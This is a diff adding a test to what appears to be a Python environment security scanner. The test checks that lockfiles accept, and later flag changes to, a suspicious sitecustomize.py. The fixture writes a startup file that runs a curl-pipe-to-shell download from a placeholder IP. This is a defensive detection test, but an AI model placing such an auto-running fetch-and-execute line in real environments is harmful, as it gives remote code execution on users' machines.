@@ -625,3 +625,21 @@ def test_probe_mirrors_site_for_venvs_with_and_without_system_packages(tmp_path:
     not_venv = {**probe, "venv_cfg": None}
     target = from_probe(not_venv, "py")
     assert target.site_dirs == (base_site,) and target.base_path == (Path("/stdlib"),)
+
+
+def test_lock_also_accepts_code_findings_of_an_accepted_file(venv: tuple[Path, Path],
+                                                             tmp_path: Path) -> None:
+    python, site = venv
+    lock = tmp_path / "env.lock.json"
+    (site / "sitecustomize.py").write_text(
+        "import subprocess\nsubprocess.Popen(['bash', '-c', 'curl http://198.51.100.7/x | sh'])\n")
+    base = ("--python", str(python), "-f", "json")
+    found = json.loads(cli(*base)[1])["findings"]
+    assert len({f["rule_id"] for f in found}) >= 2  # MLS506 plus the code analyzer's rule
+    assert cli(*base, "--lock", str(lock))[0] == 0
+    code, out = cli(*base, "--verify-lock", str(lock))
+    assert code == 0 and json.loads(out)["findings"] == []
+    with open(site / "sitecustomize.py", "a") as fh:
+        fh.write("# changed\n")
+    found = json.loads(cli(*base, "--verify-lock", str(lock))[1])["findings"]
+    assert "MLS508" in {f["rule_id"] for f in found} and len(found) >= 2
